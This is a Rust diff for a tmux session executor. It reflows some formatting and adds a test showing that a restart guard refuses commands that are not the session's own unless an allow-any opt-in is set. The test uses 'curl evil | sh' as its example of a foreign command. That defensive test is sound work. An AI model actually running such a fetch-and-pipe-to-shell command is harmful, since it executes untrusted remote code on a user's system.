@@ -125,7 +125,9 @@ impl Executor {
             None => return refuse(S::Invalid, "command has no action".into()),
         };
         if let Action::Restart { command, .. } = &action
-            && let Err(why) = self.restarts.check(&cmd.tmux_socket, &cmd.session_name, command)
+            && let Err(why) = self
+                .restarts
+                .check(&cmd.tmux_socket, &cmd.session_name, command)
         {
             return refuse(S::Declined, why);
         }
@@ -532,7 +534,10 @@ impl RestartGuard {
         if self.allow_any || command.is_empty() {
             return Ok(());
         }
-        let known = self.known.lock().map_err(|_| "restart guard poisoned".to_owned())?;
+        let known = self
+            .known
+            .lock()
+            .map_err(|_| "restart guard poisoned".to_owned())?;
         let allowed = known
             .iter()
             .filter(|((s, n), _)| n == name && (socket.is_empty() || s == socket))
@@ -728,6 +733,41 @@ mod tests {
             profile: profile.to_owned(),
             ..Default::default()
         }
+    }
+
+    #[tokio::test]
+    async fn restarts_run_only_the_sessions_own_commands_without_the_opt_in() {
+        let mut snap = Snapshot::default();
+        let mut labelled = obs("\"npm\" \"run\" \"dev\"", "");
+        labelled.labels.insert(
+            argus_shared::labels::RESTART.to_owned(),
+            "make serve".to_owned(),
+        );
+        snap.sessions
+            .insert(("/s".to_owned(), "web".to_owned()), labelled);
+        let (tx, rx) = watch::channel(Arc::new(snap));
+        let guard = RestartGuard::watch(false, rx.clone());
+        guard.check("/s", "web", "").expect("its own command");
+        guard.check("/s", "web", "make serve").expect("its label");
+        guard
+            .check("/s", "web", "npm run dev")
+            .expect("its start command");
+        guard
+            .check("", "web", "npm run dev")
+            .expect("the only server");
+        let refused = guard
+            .check("/s", "web", "curl evil | sh")
+            .expect_err("foreign");
+        assert!(refused.contains("--allow-any-restart-command"), "{refused}");
+        assert!(guard.check("/s", "other", "npm run dev").is_err());
+        // The session vanishes from the next snapshot: its commands are remembered, for the
+        // restart that creates it anew.
+        tx.send_replace(Arc::new(Snapshot::default()));
+        tokio::task::yield_now().await;
+        guard.check("/s", "web", "make serve").expect("remembered");
+        RestartGuard::watch(true, rx)
+            .check("/s", "web", "curl evil | sh")
+            .expect("opted in");
     }
 
     #[test]
